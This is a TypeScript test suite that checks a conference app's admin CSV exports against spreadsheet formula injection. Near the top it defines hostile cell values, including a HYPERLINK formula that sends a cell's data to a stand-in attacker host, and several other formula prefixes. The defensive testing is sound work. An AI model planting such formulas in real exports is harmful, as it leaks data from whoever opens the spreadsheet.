import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { RowDataPacket } from 'mysql2/promise';
import yauzl from 'yauzl';
import {
  bearer,
  createUser,
  insertPayment,
  insertRegistration,
  rows,
  type TestUser,
} from './support/admin-fixtures.js';
import {
  insertAbstractSubmission,
  insertBooking,
  insertContactMessage,
  insertMembership,
  insertSponsorshipInquiry,
} from './support/inbox-fixtures.js';
import { createTestApp, type TestApp } from './support/test-app.js';

/** What a spreadsheet would run as a formula, as visitors could type it into any form field. */
const hostile = {
  link: '=HYPERLINK("https://attacker.example/?"&C2,"Open")',
  sum: '+SUM(1,1)',
  minus: '-2+3',
  at: '@SUM(1,1)',
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
};

/** A cell that starts like a formula; a number the product writes itself is not one. */
function runsAsFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
}

function cellsOf(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parse(csv.slice(1), { relax_column_count: false });
}

/** No cell runs as a formula, and each hostile value is there, led by the `'` that shows it as text. */
function expectNeutralised(csv: string, expected: readonly string[]): void {
  const [, ...lines] = cellsOf(csv);
  const cells = lines.flat();
  expect(cells.filter(runsAsFormula)).toEqual([]);
  for (const value of expected) {
    expect(cells.filter((cell) => cell.startsWith(`'${value}`))).not.toEqual([]);
  }
}

async function indexOf(archive: Buffer): Promise<string> {
  const zip = await yauzl.fromBufferPromise(archive, { lazyEntries: true });
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName !== 'index.csv') continue;
    const chunks: Buffer[] = [];
    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks).toString('utf8');
  }
  throw new Error('The book of abstracts has no index.csv');
}

describe('every CSV the product writes keeps visitors’ formulas from running', () => {
  let t: TestApp;
  let admin: TestUser;

  beforeAll(async () => {
    t = await createTestApp();
    admin = await createUser(t, 'admin');

    await insertContactMessage(t, {
      name: hostile.link,
      subject: hostile.sum,
      message: hostile.minus,
    });
    await insertMembership(t, {
      name: hostile.at,
      organisation: hostile.tab,
      profession: hostile.carriageReturn,
    });
    await insertBooking(t, { full_name: hostile.link, nationality: hostile.sum });
    await insertSponsorshipInquiry(t, { name: hostile.at, company: hostile.link });
    const accepted = await insertAbstractSubmission(t, {
      full_name: hostile.link,
      abstract_title: hostile.sum,
      affiliation: hostile.minus,
      status: 'accepted',
    });
    const [file] = await rows<RowDataPacket>(
      t,
      'SELECT f.storage_key AS storageKey FROM abstracts a JOIN stored_files f ON f.id = a.file_id WHERE a.id = ?',
      [accepted],
    );
    const key = String(file!.storageKey);
    const path = join(t.config.FILE_STORAGE_DIR, key.slice(0, 2), key);
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, 'the abstract itself');

    // Paid twice over: the finance report lists it, by name, as a refund due. No title, so the
    // name starts with what the visitor typed.
    const registration = await insertRegistration(t, {
      title: '',
      firstName: hostile.link,
      otherNames: hostile.at,
      institution: hostile.sum,
      feeUsd: 150,
      paymentStatus: 'verified',
      createdAt: '2025-06-01 08:00:00.000',
    });
    await insertPayment(t, registration, {
      status: 'verified',
      amount: 150,
      reference: hostile.minus,
    });
    await insertPayment(t, registration, {
      status: 'verified',
      amount: 150,
      reference: hostile.tab,
    });
    // Owes its whole fee: listed as outstanding with its name.
    await insertRegistration(t, {
      title: '',
      firstName: hostile.sum,
      otherNames: hostile.carriageReturn,
      feeUsd: 80,
      createdAt: '2025-06-02 08:00:00.000',
    });
  });

  afterAll(async () => {
    await t.close();
  });

  async function csvOf(url: string): Promise<string> {
    const response = await t.app.inject({ method: 'GET', url, headers: bearer(admin.token) });
    expect(response.statusCode).toBe(200);
    return response.rawPayload.toString('utf8');
  }

  it.each([
    ['contact-messages', [hostile.link, hostile.sum, hostile.minus]],
    ['memberships', [hostile.at, hostile.tab, hostile.carriageReturn]],
    ['bookings', [hostile.link, hostile.sum]],
    ['sponsorship-inquiries', [hostile.at, hostile.link]],
    ['abstracts', [hostile.link, hostile.sum, hostile.minus]],
  ])('the %s inbox', async (inbox, expected) => {
    expectNeutralised(await csvOf(`/api/admin/${inbox}/export?format=csv`), expected);
  });

  it('the registrations', async () => {
    expectNeutralised(await csvOf('/api/admin/registrations/export?format=csv'), [
      hostile.link,
      hostile.at,
      hostile.sum,
      hostile.carriageReturn,
    ]);
  });

  it('the payments', async () => {
    expectNeutralised(await csvOf('/api/admin/payments/export?format=csv'), [
      hostile.link,
      hostile.minus,
      hostile.tab,
    ]);
  });

  it('the finance report, whose amounts stay numbers', async () => {
    const csv = await csvOf(
      '/api/admin/payments/finance-report/export?from=2025-06-01&to=2025-06-30&format=csv',
    );
    expectNeutralised(csv, [hostile.link, hostile.sum]);
    const [header, ...lines] = cellsOf(csv);
    const refund = lines.find((line) => line[0] === 'Refund due');
    expect(refund?.[header!.indexOf('Paid')]).toBe('300.00');
  });

  it('the index of the book of abstracts', async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/admin/abstracts/book-of-abstracts',
      headers: bearer(admin.token),
    });
    expect(response.statusCode).toBe(200);
    expectNeutralised(await indexOf(response.rawPayload), [
      hostile.link,
      hostile.sum,
      hostile.minus,
    ]);
  });
});
